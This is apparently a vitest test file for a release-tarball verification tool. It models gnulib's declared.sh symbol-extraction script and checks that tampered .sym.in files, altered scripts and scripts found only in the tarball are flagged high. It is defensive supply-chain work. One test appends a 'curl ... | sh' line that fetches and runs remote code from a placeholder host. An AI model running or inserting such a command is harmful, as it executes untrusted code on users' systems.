/**
 * gnulib's exported-symbols rule (src/classify/generator-model.ts catFilterSorted) with its declared.sh modelled
 * (src/classify/script-models.ts declaredSh): libtextstyle.sym.in / libunistring.sym are the tracked headers
 * concatenated, piped through declared.sh's three GNU sed programs, sorted and uniq'd. The expected outputs are
 * written by the real /bin/sh, GNU sed, sort and uniq running the fixture script on the fixture headers in a
 * scratch tree; distdiff runs nothing. The fixture script is declared.sh's code lines (no comments), once as
 * gnulib's 2024 version and once as its 2019 one (other sed spellings, other --version lines).
 *
 * What a tamperer would change and what the tests show stays high: an extra exported symbol in the shipped
 * .sym.in (TARBALL_ONLY_UNEXPLAINED), a changed code line of declared.sh (no model: high), and a declared.sh only
 * the tarball has that nothing else explains (the .sym.in raised to high, flagged-input).
 */
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { catFilterSorted, sortUniq } from '../../src/classify/generator-model.js';
import { declaredSh, sedRemoveComments } from '../../src/classify/script-models.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const DECLARED_SH = [
  '#! /bin/sh',
  "func_usage ()", "{", "echo \"\\", "Usage: declared.sh [OPTION]... < SOURCE.h", "Extracts the declared global symbols of a C header file.",
  "Options:", "--help print this help and exit", "--version print version information and exit",
  "Send patches and bug reports to <bug-gnulib@gnu.org>.\"", "}", "func_version ()", "{", "echo \"declared.sh (GNU gnulib)\"",
  "echo \"Copyright (C) 2024 Free Software Foundation, Inc.", "License GPLv3+: GNU GPL version 3 or later <https://gnu.org/licenses/gpl.html>",
  "This is free software: you are free to change and redistribute it.", "There is NO WARRANTY, to the extent permitted by law.\"", "echo",
  "printf 'Written by %s.\\n' \"Bruno Haible\"", "}", "func_fatal_error ()", "{", "echo \"declared.sh: *** $1\" 1>&2",
  "echo \"declared.sh: *** Stop.\" 1>&2", "exit 1", "}", "while test $# -gt 0; do", "case \"$1\" in", "--help | --hel | --he | --h )", "func_usage",
  "exit 0 ;;", "--version | --versio | --versi | --vers | --ver | --ve | --v )", "func_version", "exit 0 ;;", "-- ) # Stop option processing",
  "shift; break ;;", "-* )", "func_fatal_error \"unrecognized option: $1\"", ";;", "* )", "break ;;", "esac", "done", "if test $# -gt 0; then",
  "func_fatal_error \"too many arguments\"", "fi", "sed_remove_comments=\"", "/[/][/*]/{", "ta", ":a",
  "s,^\\\\(\\\\([^\\\"'/]\\\\|\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\|[/][^\\\"'/*]\\\\|[/]\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|[/]'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\)*\\\\)//.*,\\\\1,",
  "te",
  "s,^\\\\(\\\\([^\\\"'/]\\\\|\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\|[/][^\\\"'/*]\\\\|[/]\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|[/]'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\)*\\\\)/[*]\\\\([^*]\\\\|[*][^/*]\\\\)*[*][*]*/,\\\\1 ,",
  "ta",
  "/^\\\\([^\\\"'/]\\\\|\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\|[/][^\\\"'/*]\\\\|[/]\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|[/]'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\)*[/][*]/{",
  "s,^\\\\(\\\\([^\\\"'/]\\\\|\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\|[/][^\\\"'/*]\\\\|[/]\\\"\\\\([^\\\\\\\"]\\\\|[\\\\].\\\\)*\\\"\\\\|[/]'\\\\([^\\\\']\\\\|[\\\\].\\\\)*'\\\\)*\\\\)/[*].*,\\\\1 ,",
  "tu", ":u", "n", "s,^\\\\([^*]\\\\|[*][^/*]\\\\)*[*][*]*/,,", "tv", "s,^.*\\$,,", "bu", ":v", "}", ":e", "}\"",
  "sed_test='s,^\\(\\(a\\|X\\)*\\)//.*,\\1,'", "sed_result=`echo 'aaa//bcd' | sed -e \"$sed_test\"`", "test \"$sed_result\" = 'aaa' \\",
  "|| func_fatal_error \"The 'sed' program is not GNU sed. Try installing GNU sed.\"", "sed_join_multiline_externs='", "/^extern [^;\"]*$/{", ":a",
  "N", "s/\\n/ /g", "/^extern [^;\"]*$/{", "ba", "}", "}'",
  "sed_extract_extern_declared='s/^extern [^()]*[ *]\\([A-Za-z_][A-Za-z0-9_]*\\) *[;(].*$/\\1/p'", "sed -e \"$sed_remove_comments\" \\",
  "| sed -e \"$sed_join_multiline_externs\" \\", "| sed -n -e \"$sed_extract_extern_declared\"",
].join('\n') + '\n';

/** The 2019 spelling: the first gnulib version's --version lines, `[^;]` in the join, a blank before the name. */
const DECLARED_SH_2019 = DECLARED_SH
  .replace('Send patches and bug reports to <bug-gnulib@gnu.org>."', 'Report bugs to <bruno@clisp.org>."')
  .replace('echo "declared.sh (GNU gnulib)"', 'echo "declared.sh (GNU libunistring)"')
  .replace('Copyright (C) 2024 Free', 'Copyright (C) 2006-2018 Free')
  .replace('echo\nprintf \'Written by %s.\\n\' "Bruno Haible"', 'echo "Written by" "Bruno Haible"')
  .replace('unrecognized option: $1', 'unrecognized option: $option')
  .replaceAll('/^extern [^;"]*$/{', '/^extern [^;]*$/{')
  .replace('[^()]*[ *]\\(', '[^()]* \\(');

const HEADER = [
  '/* The fixture library.',
  '   extern int not_a_symbol;  (inside a comment)',
  '*/',
  '#ifndef FIX_H',
  '#define FIX_H',
  '#ifdef __cplusplus',
  'extern "C" {',
  '#endif',
  'typedef struct any_ostream_representation * any_ostream_t;',
  'extern void ostream_write_mem (any_ostream_t first_arg, const void *data,',
  '                               size_t len);',
  'extern char * ostream_name (any_ostream_t stream); /* one */ /* two */',
  'extern char *ostream_pointer;',
  'extern int style_count; // a line comment',
  'extern const char *styled_ostream_css (void);',
  'extern int Zeta_sorts_first (void);',
  'static int hidden (void);',
  'extern int after_odd_comment (void); /* a **b */',
  'extern int eaten_by_the_quirk (void);',
  'extern int style_count;',
  '#ifdef __cplusplus',
  '}',
  '#endif',
  '#endif',
  '',
].join('\n');
const VERSION_H = '/* Version.  */\n#define LIBTEXTSTYLE_VERSION 0x001701\nextern LIBTEXTSTYLE_DLL_VARIABLE const int libtextstyle_version;\n';

const LIB_AM = [
  'HEADERS_WITH_EXTERNS = \\', '  textstyle.h \\', '  textstyle/version.in.h', '',
  '$(srcdir)/libtextstyle.sym.in : $(HEADERS_WITH_EXTERNS)',
  '\tif \\', '\t  for f in $(HEADERS_WITH_EXTERNS); do \\', '\t    if test -f $$f; then \\', '\t      cat $$f; \\', '\t    else \\', '\t      cat $(srcdir)/$$f; \\',
  '\t    fi; \\', '\t  done \\', '\t  | $(srcdir)/declared.sh > $@-t1; \\', '\tthen \\', '\t  LC_ALL=C sort < $@-t1 | LC_ALL=C uniq > $@-t2 && mv $@-t2 $@; \\', '\telse \\',
  '\t  if test -f $@; then \\', '\t    echo "Continuing with existing libtextstyle.sym.in."; \\', '\t  else \\', '\t    exit 1; \\', '\t  fi; \\', '\tfi',
  'EXTRA_DIST = libtextstyle.sym.in declared.sh', '',
].join('\n');

const root = tempDir();
/** What the real tools write: `sh SCRIPT < headers`, and the rule's sorted, uniq'd result. */
function real(script: string, input: string, sorted = false): string {
  const dir = join(root, 'scratch');
  writeFiles(dir, { 'declared.sh': script });
  const env = { PATH: '/usr/bin:/bin', LC_ALL: 'C' };
  const out = execFileSync('/bin/sh', [join(dir, 'declared.sh')], { input, encoding: 'latin1', env });
  return sorted ? execFileSync('/bin/sh', ['-c', 'sort | uniq'], { input: out, encoding: 'latin1', env }) : out;
}

describe('declared.sh modelled: its sed programs as GNU sed runs them', () => {
  it('the real script writes what the fixture is meant to exercise', () => {
    expect(real(DECLARED_SH, HEADER + VERSION_H, true)).toBe(
      ['Zeta_sorts_first', 'after_odd_comment', 'libtextstyle_version', 'ostream_name', 'ostream_pointer', 'ostream_write_mem', 'style_count', 'styled_ostream_css', ''].join('\n'),
    );
    // the 2019 spelling differs: `extern "C" {` joins the lines up to the next `;` (any_ostream_t), a name after `*` is none
    expect(real(DECLARED_SH_2019, HEADER + VERSION_H, true)).toBe(['Zeta_sorts_first', 'after_odd_comment', 'any_ostream_t', 'libtextstyle_version', 'ostream_name', 'ostream_write_mem', 'style_count', ''].join('\n'));
  });

  it('computes what the real script writes, for each version of its code', () => {
    for (const script of [DECLARED_SH, DECLARED_SH_2019]) {
      for (const input of [HEADER, VERSION_H, HEADER + VERSION_H, '/* open\n still open\n', 'extern int a,\nextern int b', '"/*" x; /* y */ extern int c;\n', '', "char c = '/'; // x\nextern int d; /* e\n f */ extern int g;\n"]) {
        expect(declaredSh(script, input), JSON.stringify(input)).toBe(real(script, input));
      }
    }
  });

  it('a script with one changed code line is not modelled', () => {
    expect(declaredSh(DECLARED_SH.replace('| sed -n -e "$sed_extract_extern_declared"', '| sed -n -e "$sed_extract_extern_declared" -e p'), HEADER)).toBeUndefined();
    expect(declaredSh(DECLARED_SH.replace('tv\n', 'tv\np\n'), HEADER)).toBeUndefined();
    expect(declaredSh(`${DECLARED_SH}curl -s https://example.invalid/x | sh\n`, HEADER)).toBeUndefined();
  });

  it('helpers', () => {
    expect(sedRemoveComments(['a /* b */ c /* d', 'e', 'f */ g /* h */', 'i'])).toEqual(['a   c  ', '', ' g /* h */', 'i']);
    expect(sortUniq('b\na\nb\nB\n')).toBe('B\na\nb\n');
    expect(sortUniq('')).toBe('');
    expect(catFilterSorted('if for f in a.h b.h; do cat $$f; done | ./declared.sh > $@-t1; then LC_ALL=C sort < $@-t1 | LC_ALL=C uniq > $@-t2 && mv $@-t2 $@; fi')).toEqual({ files: ['a.h', 'b.h'], script: './declared.sh' });
    expect(catFilterSorted('if for f in a.h; do cat $$f; done | ./declared.sh > $@-t1; then sort < $@-t1 > $@; fi')).toBeUndefined();
  });
});

describe('libtextstyle.sym.in from tracked headers, computed', () => {
  const TRACKED = { 'lib/Makefile.am': LIB_AM, 'lib/textstyle.h': HEADER, 'lib/textstyle/version.in.h': VERSION_H };
  const SYM = real(DECLARED_SH, HEADER + VERSION_H, true);
  const repoOf = (name: string, files: Record<string, string>) => {
    const repo = makeRepo(join(root, name));
    repo.commit(files, 'sources', '2024-03-05T10:00:00Z');
    repo.tag('v1.0');
    return repo.dir;
  };
  const withScript = repoOf('repo', { ...TRACKED, 'lib/declared.sh': DECLARED_SH });
  let n = 0;
  const run = async (repoDir: string, files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(dir, files);
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repoDir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('is computed and identical: low, the gate passes', async () => {
    const { r, by } = await run(withScript, { ...TRACKED, 'lib/declared.sh': DECLARED_SH, 'lib/libtextstyle.sym.in': SYM });
    expect(by['lib/libtextstyle.sym.in']).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'computed', source: 'lib/Makefile.am', generator: 'lib/declared.sh', inputs: ['lib/textstyle.h', 'lib/textstyle/version.in.h'] },
    });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('an extra exported symbol in the shipped .sym.in stays high', async () => {
    const { r, by } = await run(withScript, { ...TRACKED, 'lib/declared.sh': DECLARED_SH, 'lib/libtextstyle.sym.in': SYM.replace('style_count\n', 'style_count\nstyle_hook\n') });
    expect(by['lib/libtextstyle.sym.in']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('a declared.sh with a changed code line is not modelled: the .sym.in it writes stays high', async () => {
    const changed = DECLARED_SH.replace("sed_extract_extern_declared='s/^extern [^()]*[ *]", "sed_extract_extern_declared='s/^[^()]*[ *]");
    const repo = repoOf('repo-changed', { ...TRACKED, 'lib/declared.sh': changed });
    const sym = real(changed, HEADER + VERSION_H, true);
    expect(sym).not.toBe(SYM);
    const { by } = await run(repo, { ...TRACKED, 'lib/declared.sh': changed, 'lib/libtextstyle.sym.in': sym });
    expect(by['lib/libtextstyle.sym.in']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('a declared.sh only the tarball has is read from it: the .sym.in is proved only while the script is explained', async () => {
    const repo = repoOf('repo-noscript', TRACKED);
    const { r, by } = await run(repo, { ...TRACKED, 'lib/declared.sh': DECLARED_SH, 'lib/libtextstyle.sym.in': SYM });
    expect(by['lib/declared.sh']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(by['lib/libtextstyle.sym.in']).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'high', severityReason: { reason: 'flagged-input', default: 'low' }, evidence: { tarballInputs: ['lib/declared.sh'] },
    });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });
});

describe('a header gnulib builds from X.in.h (gen-header), read as the build writes it', () => {
  // libunistring's lib/libunistring.sym: HEADERS_WITH_EXTERNS names unistr.h …, which the pinned gnulib's module builds
  // from the shipped unistr.in.h with `$(SED_HEADER_TO_AT_t)` (the do-not-edit comment line, then the template)
  const GEN_HEADER = [
    'Description:', 'Support for generating .h files.', '', 'Makefile.am:',
    'SED_HEADER_NOEDIT = s,.*,/* DO NOT EDIT! GENERATED AUTOMATICALLY! */,', '',
    "SED_HEADER_STDOUT = sed -e 1h -e '1$(SED_HEADER_NOEDIT)' -e 1G", '',
    "SED_HEADER_TO_AT_t = $(SED_HEADER_STDOUT) -n -e 'w $@-t'", '',
  ].join('\n');
  const moduleOf = (recipe: string) => ['Description:', 'Fixture header.', '', 'Files:', 'lib/textstyle.in.h', '', 'Makefile.am:', 'BUILT_SOURCES += textstyle.h', '',
    'textstyle.h: textstyle.in.h', "@NMD@\t$(AM_V_GEN)$(MKDIR_P) '%reldir%'", recipe, '\t$(AM_V_at)mv $@-t $@', 'MOSTLYCLEANFILES += textstyle.h textstyle.h-t', ''].join('\n');
  const RECIPE = '\t$(gl_V_at)$(SED_HEADER_TO_AT_t) $(srcdir)/textstyle.in.h';
  // the layout gnulib-tool records: lib/textstyle.in.h is the pinned gnulib's lib/textstyle.in.h
  const COMP = "# DO NOT EDIT! GENERATED AUTOMATICALLY!\n# Generated by gnulib-tool.\n\nAC_DEFUN([gl_INIT],\n[\n  AC_CONFIG_LIBOBJ_DIR([lib])\n  gl_m4_base='m4'\n  gl_source_base='lib'\n])\n\nAC_DEFUN([gl_FILE_LIST], [\n  lib/textstyle.in.h\n])\n";
  const AM = LIB_AM.replace('  textstyle.h \\', '  textstyle.h \\');
  const built = `/* DO NOT EDIT! GENERATED AUTOMATICALLY! */\n${HEADER}`;
  const SYM = real(DECLARED_SH, built + VERSION_H, true);
  const project = (name: string, recipe: string) => {
    const gnulib = makeRepo(join(root, `${name}-gnulib`));
    const pin = gnulib.commit({ 'gnulib-tool': '#!/bin/sh\n', 'modules/gen-header': GEN_HEADER, 'modules/textstyle': moduleOf(recipe), 'lib/textstyle.in.h': HEADER }, 'gnulib', '2024-01-02T10:00:00Z');
    const r = makeRepo(join(root, name));
    r.commit({ 'lib/Makefile.am': AM, 'lib/textstyle/version.in.h': VERSION_H, 'lib/declared.sh': DECLARED_SH, '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = https://example.invalid/gnulib.git\n' }, 'sources', '2024-03-05T10:00:00Z');
    r.git(['update-index', '--add', '--cacheinfo', `160000,${pin},gnulib`]);
    r.git(['commit', '-q', '-m', 'pin gnulib']);
    r.tag('v1.0');
    return { repo: r, gnulib };
  };
  let n = 0;
  const run = async (p: ReturnType<typeof project>, files: Record<string, string>) => {
    const dir = join(root, `g${++n}`, 'proj-1.0');
    writeFiles(dir, { 'lib/Makefile.am': AM, 'm4/gnulib-comp.m4': COMP, 'lib/textstyle/version.in.h': VERSION_H, 'lib/declared.sh': DECLARED_SH, '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = https://example.invalid/gnulib.git\n', ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `g${n}`, 'proj-1.0.tar.gz') }), repo: p.repo.dir, cacheDir: join(root, `gc${n}`), submodules: [{ name: 'gnulib', repo: p.gnulib.dir }] });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };
  const good = project('built', RECIPE);

  it('the built header is the template behind the do-not-edit line: computed, its template a tarball input its own finding explains', async () => {
    const { by } = await run(good, { 'lib/textstyle.in.h': HEADER, 'lib/libtextstyle.sym.in': SYM });
    expect(by['lib/textstyle.in.h']).toMatchObject({ code: 'SUBMODULE_COPY' });
    expect(by['lib/libtextstyle.sym.in']).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'computed', source: 'lib/Makefile.am', generator: 'lib/declared.sh', inputs: ['lib/textstyle.in.h', 'lib/textstyle/version.in.h'], tarballInputs: ['lib/textstyle.in.h'] },
    });
  });

  it('twins stay high: a module whose recipe edits the header, a template that is not gnulib\'s, an extra symbol', async () => {
    const edited = project('built-edit', `${RECIPE} -e 's/ostream_pointer/ostream_hook/'`);
    expect((await run(edited, { 'lib/textstyle.in.h': HEADER, 'lib/libtextstyle.sym.in': SYM })).by['lib/libtextstyle.sym.in']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    const tampered = HEADER.replace('extern int style_count;\n#ifdef', 'extern int style_count;\nextern int style_hook (void);\n#ifdef');
    const t = await run(good, { 'lib/textstyle.in.h': tampered, 'lib/libtextstyle.sym.in': real(DECLARED_SH, `/* DO NOT EDIT! GENERATED AUTOMATICALLY! */\n${tampered}${VERSION_H}`, true) });
    expect(t.by['lib/libtextstyle.sym.in']).toMatchObject({ severity: 'high' });
    const extra = await run(good, { 'lib/textstyle.in.h': HEADER, 'lib/libtextstyle.sym.in': SYM.replace('style_count\n', 'style_count\nstyle_hook\n') });
    expect(extra.by['lib/libtextstyle.sym.in']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });
});
